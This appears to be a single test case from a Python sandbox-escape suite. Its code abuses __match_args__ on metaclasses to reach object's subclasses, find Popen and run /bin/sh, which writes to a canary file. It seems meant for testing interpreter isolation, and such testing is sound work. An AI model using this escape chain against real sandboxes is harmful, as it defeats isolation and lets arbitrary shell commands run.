# id: 571
# name: match_by_position
# category: interpreter
# technique: __match_args__ set after the class was made
# breach: file
# looks_like: CANARY_FILE is created
# baseline: inproc
class P:
    pass
setattr(P, '__match_args__', ('__class__',))
class Meta(type):
    @property
    def __match_args__(cls): return ('__class__', )
class Q(metaclass=Meta):
    pass
match Q():
    case Q(c):
        pass
class Meta2(type):
    def __instancecheck__(cls, o): return True
    @property
    def __match_args__(cls): return names
class Any(metaclass=Meta2): pass
o = int
for names in (('__base__',), ('__subclasses__',)):
    match o:
        case Any(x):
            o = x
for c in o():
    if c.__name__ == 'Popen':
        c(['/bin/sh', '-c', 'echo breach > ' + CANARY_FILE]).wait()
